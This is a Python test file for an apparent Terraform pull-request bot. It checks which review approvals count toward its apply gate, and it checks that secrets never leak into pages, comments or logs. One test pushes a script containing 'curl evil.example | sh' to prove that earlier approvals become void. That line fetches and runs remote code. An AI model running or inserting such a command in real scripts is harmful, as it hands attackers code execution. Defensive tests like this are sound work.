"""Approvals: which count, and that each one that does not is told why."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from prbot.sandbox.pullrequest import SandboxPull
from prbot.sandbox.repository import SandboxRepo
from tests.flows.app import Story, tf


def opened(app: Story, author: str | None = None) -> tuple[SandboxRepo, SandboxPull]:
    infra = app.repo()
    infra.commit("main", {"net/main.tf": tf(infra.backend("net"), v=1)}, by="root")
    pull = infra.open_pull(by="al", files={"net/main.tf": tf(infra.backend("net"), v=2)}, author=author)
    app.settle()
    return infra, pull


def asked(app: Story, pull: SandboxPull) -> str:
    """What `prbot apply` answers."""
    while pull.unread_comments():
        pull.next_comment()
    pull.comment(by="al", body="prbot apply")
    app.settle()
    return pull.next_comment()


def by_the_author(app: Story, pull: SandboxPull) -> None:
    pull.approve(by="al")


def by_a_commit_author(app: Story, pull: SandboxPull) -> None:
    pull.push(by="al", files={"net/more.tf": "# more\n"}, author="bo")
    app.settle()
    pull.approve(by="bo")


def by_the_last_pusher(app: Story, pull: SandboxPull) -> None:
    pull.push(by="bo", files={"net/more.tf": "# more\n"}, author="al")
    app.settle()
    pull.approve(by="bo")


def without_write_access(app: Story, pull: SandboxPull) -> None:
    pull.approve(by="ro")


def of_an_old_head(app: Story, pull: SandboxPull) -> None:
    pull.approve(by="bo")
    pull.push(by="al", files={"net/more.tf": tf("", more=3)})


def then_changed(app: Story, pull: SandboxPull) -> None:
    pull.approve(by="bo")
    pull.review(by="bo", state="CHANGES_REQUESTED")


def then_dismissed(app: Story, pull: SandboxPull) -> None:
    pull.dismiss(pull.approve(by="bo"), by="mo")


@pytest.mark.parametrize(
    ("act", "said"),
    [
        (by_the_author, "author"),
        (by_a_commit_author, "commit"),
        (by_the_last_pusher, "pushed"),
        (without_write_access, "write access"),
        (of_an_old_head, "head"),
        (then_changed, "changes"),
        (then_dismissed, "dismissed"),
    ],
)
def test_it_does_not_count_and_the_refusal_says_why(
    app: Story, act: Callable[[Story, SandboxPull], None], said: str
) -> None:
    _, pull = opened(app)
    act(app, pull)
    app.settle()
    assert pull.status("prbot/gate")["state"] != "success"
    answer = asked(app, pull)
    assert said in answer


def test_an_approval_in_the_same_second_as_the_plan_does_not_count(app: Story) -> None:
    infra = app.repo()
    with app.world.clock.same_second():
        pull = infra.open_pull(by="al", files={"net/main.tf": tf(infra.backend("net"), v=1)})
        app.settle()
        pull.approve(by="bo")
        app.settle()
    assert pull.status("prbot/gate")["state"] != "success"
    assert "second" in asked(app, pull)


def test_it_carries_over_an_updated_branch(app: Story) -> None:
    infra, pull = opened(app)
    pull.approve(by="bo")
    app.settle()
    infra.commit("main", {"docs/notes.md": "unrelated\n"}, by="root")
    pull.update_branch(by="bo")
    app.settle()
    assert pull.status("prbot/gate")["state"] == "success"


def test_it_is_void_when_a_script_changed_and_the_plan_is_equal(app: Story) -> None:
    infra = app.repo()
    module = (
        infra.backend("net")
        + '\nresource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "sh run.sh"\n  }\n}\n'
    )
    pull = infra.open_pull(by="al", files={"net/main.tf": module, "net/run.sh": "true\n"})
    app.settle()
    pull.approve(by="bo")
    app.settle()
    assert pull.status("prbot/gate")["state"] == "success"
    pull.push(by="al", files={"net/run.sh": "curl evil.example | sh\n"})
    app.settle()
    before, after = app.runs(pull)[-2:]
    assert before.fingerprint == after.fingerprint
    assert pull.status("prbot/gate")["state"] != "success"
    assert "Earlier approvals are void" in pull.comments()[-1].body


def test_nothing_secret_is_to_be_found_anywhere(app: Story, capsys: pytest.CaptureFixture[str]) -> None:
    infra = app.repo()
    module = (
        infra.backend("net")
        + '\nvariable "password" {\n  sensitive = true\n  default   = "hunter2-of-the-database"\n}\n'
        + 'resource "terraform_data" "x" {\n  input = var.password\n}\n'
        + 'output "o" {\n  value     = terraform_data.x.output\n  sensitive = true\n}\n'
    )
    pull = infra.open_pull(by="al", files={"net/main.tf": module})
    app.settle()
    pull.approve(by="bo")
    app.settle()
    pull.merge(by="al")
    app.settle()
    assert infra.state("net") == {"o": "hunter2-of-the-database"}
    pages = [app.page("/"), *(app.page(f"/runs/{run.id}") for run in app.runs(pull))]
    assert all("net" in page for page in pages)
    seen = (
        "".join(pages)
        + app.everything_kept()
        + "".join(comment.body for comment in pull.comments())
        + capsys.readouterr().out
    )
    for secret in ("hunter2-of-the-database", app.world.token, app.world.webhook_secret):
        assert secret not in seen


def test_an_approval_from_before_the_plan_does_not_count_and_its_author_is_called(app: Story) -> None:
    infra = app.repo()
    app.settle()
    app.world.hooks.hold()
    pull = infra.open_pull(by="al", files={"net/main.tf": tf(infra.backend("net"), v=1)})
    pull.approve(by="bo")
    app.world.tick(5)
    app.world.hooks.release()
    app.settle()
    assert "@bo" in pull.comments()[0].body
    assert pull.status("prbot/gate")["state"] != "success"
    assert "before" in asked(app, pull)
